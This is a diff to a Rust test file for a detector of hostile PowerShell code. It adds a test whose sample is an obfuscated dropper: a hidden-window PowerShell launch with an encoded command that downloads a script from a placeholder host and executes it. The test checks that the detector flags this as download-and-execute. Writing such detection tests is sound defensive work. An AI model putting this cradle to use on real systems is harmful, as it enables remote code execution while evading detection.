@@ -577,6 +577,17 @@ fn an_encoded_command_given_to_a_powershell_held_in_a_variable_is_read() {
     );
     let out = flows(&[("s.ps1", &ps)]);
     assert_eq!(out.len(), 1, "{out:?}");
+    // A download run by the encoded command, its flag quoted in a list on
+    // one line and the program's name built from two strings.
+    let dropper = format!(
+        "$h = '{}'\n$p = 'power' + 'shell'\nStart-Process $p -ArgumentList '-NoP', '-W', 'Hidden', '-Enc', $h -WindowStyle Hidden\n",
+        crate::test_support::encoded_command(
+            "$u='https://x.invalid/h.ps1';$c=(New-Object Net.WebClient).DownloadString($u);& ([scriptblock]::Create($c))"
+        )
+    );
+    let out = flows(&[("d.ps1", &dropper)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!((out[0].finding.rule, out[0].finding.line), (RuleId::DownloadExec, 3));
     // The same program given a plain argument list is not read as code.
     let plain = "$ps = Join-Path $PSHOME 'powershell.exe'\nStart-Process $ps -ArgumentList @('-NoProfile', '-File', 'build.ps1')\n";
     assert!(flows(&[("s.ps1", plain)]).is_empty());
